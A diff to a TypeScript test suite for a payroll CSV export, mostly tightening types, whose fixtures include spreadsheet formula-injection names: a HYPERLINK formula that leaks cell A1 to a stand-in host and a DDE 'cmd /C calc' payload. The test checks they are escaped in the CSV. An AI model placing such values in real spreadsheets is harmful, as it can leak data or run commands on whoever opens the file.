@@ -11,7 +11,7 @@ import { monthlyItems } from '../../src/jobs/monthly.js';
 import { runJob } from '../../src/jobs/run.js';
 import { payroll } from '../../src/service/scores.js';
 import { texts } from '../../src/slack/text/index.js';
-import { cliOn, type CliResult } from '../support/cli.js';
+import { cliOn, type CliResult, type PayrollJson } from '../support/cli.js';
 import { freshDatabase, tallyOn } from '../support/db.js';
 
 // names a roster file may carry, each of which Excel would otherwise run as a formula
@@ -63,16 +63,16 @@ describe('the payroll file', () => {
     expect(lines(file)[0]).toBe(
       '客服ID,姓名,岗位,级别,得分,排名,底薪,绩效,提成,排名奖,餐补,罚款,合计,提成取消,标记开除,调仓库学习',
     );
-    const json = (await tally('payroll', '--month', '2026-10', '--json')).json();
+    const json = (await tally('payroll', '--month', '2026-10', '--json')).json<PayrollJson>();
     expect(rows).toHaveLength(json.rows.length);
     const yuan = (fen: number) => (fen / 100).toFixed(2);
-    json.rows.forEach((j: any, i: number) => {
+    json.rows.forEach((j, i) => {
       const row = Object.fromEntries(header!.map((h, k) => [h, rows[i]![k]]));
       expect(row).toEqual({
         客服ID: j.slackId,
         姓名: ATTACKS[j.slackId] ? `'${ATTACKS[j.slackId]}` : j.name,
-        岗位: { presales: '售前', aftersales: '售后' }[j.track as string],
-        级别: { trainee: '见习', regular: '正式', senior: '资深', lead: '组长', supervisor: '主管' }[j.level as string],
+        岗位: { presales: '售前', aftersales: '售后' }[j.track],
+        级别: { trainee: '见习', regular: '正式', senior: '资深', lead: '组长', supervisor: '主管' }[j.level],
         得分: j.score === null ? '' : j.score.toFixed(2),
         排名: j.rank === null ? '' : String(j.rank),
         底薪: yuan(j.baseFen),
@@ -96,7 +96,7 @@ describe('the payroll file', () => {
       /^U00001001,"'=HYPERLINK\(""http:\/\/x\/\?""&A1,""click""\)",售前,正式,\d+\.\d\d,\d+,[\d.]+,[\d.]+,0\.00,0\.00,300\.00,-1500\.00,-?[\d.]+,是,是,否$/,
     );
     // the JSON contract is unchanged: names as they are
-    expect(json.rows.find((r: any) => r.slackId === 'U00001002').name).toBe("+cmd|' /C calc'!A0");
+    expect(json.rows.find((r) => r.slackId === 'U00001002')!.name).toBe("+cmd|' /C calc'!A0");
   });
 
   it('is the very file the monthly job sends the leads', async () => {
